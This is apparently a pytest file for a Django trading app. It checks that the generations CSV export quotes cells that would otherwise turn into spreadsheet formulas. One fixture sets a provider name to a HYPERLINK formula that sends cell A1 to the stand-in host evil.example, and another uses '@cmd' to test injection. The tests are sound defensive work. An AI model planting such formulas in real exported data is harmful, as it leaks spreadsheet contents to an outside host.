"""The generations CSV export: text a provider chose cannot become a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from accounts.services import profile_update
from exchange.delivery.gateway.api import csv_cell
from exchange.delivery.gateway.models import Generation, GenerationStatus

pytestmark = pytest.mark.django_db


def test_a_cell_that_would_start_a_formula_is_quoted():
    for dangerous in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(dangerous) == "'" + dangerous
    assert (csv_cell("stop"), csv_cell(None), csv_cell(12)) == ("stop", "", 12)


def test_the_export_quotes_a_providers_formula(make_trader, pair):
    provider = make_trader(role="provider")
    buyer = make_trader()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    profile_update(user=provider.user, display_name=formula)
    Generation.objects.create(
        public_id="gen-csv", buyer=buyer.user, provider=provider.user, model_id=pair.model_id,
        input_market=pair.input_market, output_market=pair.output_market, currency="CNY",
        status=GenerationStatus.COMPLETED, finish_reason="@cmd", created_at=timezone.now(),
    )  # fmt: skip

    api = APIClient()
    api.force_authenticate(buyer.user)
    export = api.get("/api/v1/generations/export.csv")

    assert export.status_code == 200
    header, row = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    record = dict(zip(header, row, strict=True))
    assert record["provider"] == "'" + formula
    assert record["finish_reason"] == "'@cmd"
    assert record["id"] == "gen-csv"
